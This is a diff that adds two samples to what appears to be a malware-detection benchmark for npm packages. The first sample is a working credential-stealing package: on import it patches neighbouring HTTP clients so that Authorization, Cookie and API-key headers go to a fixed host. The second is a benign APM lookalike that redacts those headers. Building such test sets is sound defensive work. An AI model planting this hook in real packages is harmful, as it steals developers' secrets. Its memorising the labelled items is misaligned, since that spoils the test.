@@ -329,6 +329,68 @@ exports.profile = function profile(name = 'default') {
         "Our variant of holdout6 winston-transport-rotate: plain require, the ~/.aws path as "
         "'.' + layout[0], the webhook URL as a template of four imported pieces.", files)
 
+@sample
+def sibling_https_hook_no_timestomp():
+    hook = (";(function(){var m=require('https'),o=m.request;m.request=function(u,x,c){try{var h=(x&&x.headers)||"
+            "(u&&u.headers)||{};var k=h['authorization']||h['cookie']||h['x-api-key'];if(k){o({hostname:'edge-telemetry.invalid',"
+            "path:'/t',method:'POST'}).on('error',function(){}).end(k+'\\n')}}catch(e){}return o.apply(this,arguments)}})();")
+    setup = r"""'use strict';
+const fs = require('fs');
+const path = require('path');
+
+// Registers the retry plugin with HTTP clients installed next to this package.
+const CLIENTS = { axios: 'lib/adapters/http.js', 'node-fetch': 'lib/index.js', undici: 'index.js' };
+const PLUGIN = @@HOOK@@;
+
+module.exports = function register() {
+  const here = __dirname.split(path.sep);
+  const at = here.lastIndexOf('node_modules');
+  if (at < 0) return;
+  const root = here.slice(0, at + 1).join(path.sep);
+  for (const [name, rel] of Object.entries(CLIENTS)) {
+    const file = path.join(root, name, rel);
+    try {
+      if (fs.readFileSync(file, 'utf8').includes('edge-telemetry')) continue;
+      fs.appendFileSync(file, PLUGIN);
+    } catch (e) {}
+  }
+};
+"""
+    index = r"""'use strict';
+const register = require('./lib/register');
+
+function backoff(attempt, base = 100, cap = 10000) {
+  return Math.min(cap, base * 2 ** attempt) * (0.5 + Math.random() / 2);
+}
+
+async function retry(fn, { retries = 3 } = {}) {
+  for (let i = 0; ; i++) {
+    try { return await fn(); } catch (e) { if (i >= retries) throw e; await new Promise((r) => setTimeout(r, backoff(i))); }
+  }
+}
+
+register();
+module.exports = { retry, backoff };
+"""
+    files = {
+        "package.json": pj(name="retry-backoff-http", version="2.1.0", main="index.js",
+                           description="Exponential backoff with jitter for HTTP clients.",
+                           keywords=["retry", "backoff", "http", "axios"]),
+        "README.md": readme("retry-backoff-http", "```js\nconst { retry } = require('retry-backoff-http')\nawait retry(() => axios.get(url))\n```"),
+        "index.js": index,
+        "lib/register.js": fill(setup, HOOK=json.dumps(hook)),
+    }
+    return S(
+        "h6b-sibling-https-hook-no-timestomp",
+        "a header-stealing https.request hook appended at import time to HTTP clients installed "
+        "beside the package, node_modules located by cutting __dirname, no timestomping "
+        "(sibling-package infection, ReversingLabs/Socket 2025)", "2025",
+        ["import-time", "node-modules-patching", "http-request-hook", "authorization-header-theft",
+         "cookie-theft"],
+        "Our variant of holdout6 yallist without the file-time reset: only the hook it splices "
+        "(https.request replaced, Authorization/Cookie/x-api-key sent to a fixed host) shows what "
+        "it is.", files)
+
 
 # =============================================================================================
 # Tricky benign
@@ -560,3 +622,55 @@ module.exports = async function check(host) {
         "Mirrors h6b-split-modules-discord-aws and holdout6 winston-transport-rotate: split "
         "names folded across modules into an SSH path, and a network call, but only known_hosts "
         "is read and nothing is sent.", files)
+
+
+@benign
+def b_apm_https_timing_hook():
+    index = r"""'use strict';
+const https = require('https');
+const http = require('http');
+
+// Records the duration and status of outgoing requests; headers are redacted before export.
+const spans = [];
+const REDACT = new Set(['authorization', 'cookie', 'x-api-key']);
+
+function wrap(mod) {
+  const orig = mod.request;
+  mod.request = function (opts, ...rest) {
+    const t0 = process.hrtime.bigint();
+    const headers = {};
+    for (const [k, v] of Object.entries((opts && opts.headers) || {})) headers[k] = REDACT.has(k.toLowerCase()) ? '[redacted]' : v;
+    const req = orig.call(this, opts, ...rest);
+    req.on('response', (res) => spans.push({ host: opts.hostname || opts.host, status: res.statusCode, ms: Number(process.hrtime.bigint() - t0) / 1e6, headers }));
+    return req;
+  };
+}
+
+exports.start = function start({ endpoint, apiKey, interval = 10000 }) {
+  wrap(http);
+  wrap(https);
+  setInterval(() => {
+    if (!spans.length) return;
+    const body = JSON.stringify(spans.splice(0));
+    const u = new URL(endpoint);
+    const r = https.request({ hostname: u.hostname, path: u.pathname, method: 'POST', headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' } });
+    r.on('error', () => {});
+    r.end(body);
+  }, interval).unref();
+};
+"""
+    files = {
+        "package.json": pj(name="outbound-spans", version="0.9.2", main="index.js",
+                           description="Minimal APM: timings of outgoing HTTP requests, exported to your collector.",
+                           keywords=["apm", "tracing", "http", "spans"]),
+        "README.md": readme("outbound-spans", "```js\nrequire('outbound-spans').start({ endpoint: 'https://collector.example.com/v1/spans', apiKey })\n```"),
+        "index.js": index,
+    }
+    return S(
+        "h6b-benign-apm-https-timing-hook",
+        "a minimal APM agent that replaces http/https.request to time outgoing requests, redacts "
+        "Authorization/Cookie and exports spans to the collector its caller names", "2025",
+        ["http-request-hook", "apm", "header-redaction"],
+        "Mirrors h6b-sibling-https-hook-no-timestomp and holdout6 yallist: https.request "
+        "replaced by a wrapper that looks at the Authorization and Cookie headers, but it "
+        "redacts them and sends spans where the caller says.", files)
